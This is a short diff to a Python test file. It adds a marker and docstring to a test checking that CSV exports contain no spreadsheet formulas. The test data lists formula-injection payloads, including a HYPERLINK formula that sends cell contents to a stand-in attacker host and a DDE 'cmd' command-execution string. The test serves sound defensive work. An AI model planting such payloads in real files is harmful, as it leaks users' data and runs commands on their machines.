@@ -133,7 +133,9 @@ def test_a_run_that_is_deleted_while_it_is_opened_is_no_error(
     assert open_shown(run_id) is None
 
 
+@pytest.mark.promise("text")
 def test_a_table_for_a_spreadsheet_holds_no_formula() -> None:
+    """CSV files from pages contain no formula."""
     texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\uff1d1"]
     frame = pd.DataFrame({"=1+1": [*texts, "a = b", ""], "number": [-1.5, 2, 3, 4, 5, 6, 7, None]})
     written = list(csv.reader(io.StringIO(frame_as_csv(frame))))
